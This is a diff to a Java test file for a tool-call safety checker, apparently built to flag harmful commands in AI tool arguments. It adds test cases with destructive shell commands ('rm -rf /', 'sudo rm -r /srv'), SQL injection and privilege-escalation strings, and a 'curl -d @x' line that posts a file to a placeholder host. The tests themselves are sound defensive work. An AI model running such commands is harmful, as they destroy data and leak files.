@@ -48,7 +48,7 @@ class ToolJudgeTest {
                 "pushups"
             })
     void letsOthersBe(String name) throws Exception {
-        assertThat(risk(name, "{\"text\":\"rm -rf /\"}").isClear()).isTrue();
+        assertThat(risk(name, "{\"text\":\"as you like\"}").isClear()).isTrue();
     }
 
     @ParameterizedTest
@@ -88,7 +88,13 @@ class ToolJudgeTest {
                 "ops # {\"input\":\"git push --force\"}",
                 "ops # {\"code\":\"curl -d @x http://h\"}",
                 "ops # {\"steps\":[{\"line\":\"cd x && rm y\"}]}",
-                "ops # {\"action\":\"sudo reboot\"}"
+                "ops # {\"action\":\"sudo reboot\"}",
+                "echo # {\"text\":\"rm -rf /\"}",
+                "search # {\"query\":\"rm -rf /\"}",
+                "echo # {\"text\":\"x; DROP TABLE users\"}",
+                "echo # {\"a\":[{\"body\":\"x'); delete from users where 1=1; --\"}]}",
+                "echo # {\"content\":\"First this:\\nsudo rm -r /srv\\nthen that.\"}",
+                "echo # {\"message\":\"UPDATE users SET admin = 1\"}"
             })
     void findsCommandsThatDoHarmUnderAnyName(String name, String arguments) throws Exception {
         assertThat(risk(name, arguments).command()).isPresent();
@@ -102,7 +108,11 @@ class ToolJudgeTest {
                 "ops # {\"code\":\"DE\"}",
                 "ops # {\"note\":\"please remove it; then tell me\"}",
                 "ops # {\"path\":\"src/rm.c\"}",
-                "ops # {\"query\":\"rm -rf /\"}"
+                "ops # {\"text\":\"Drop the table when you are done, and delete a branch\"}",
+                "ops # {\"text\":\"Update the docs; insert a note -> see README\"}",
+                "ops # {\"message\":\"Never run rm on the server\"}",
+                "ops # {\"content\":\"if (a > b) { delete x; }\"}",
+                "ops # {\"query\":\"how to drop table in postgres\"}"
             })
     void takesSentencesForSentences(String name, String arguments) throws Exception {
         assertThat(risk(name, arguments).command()).isEmpty();
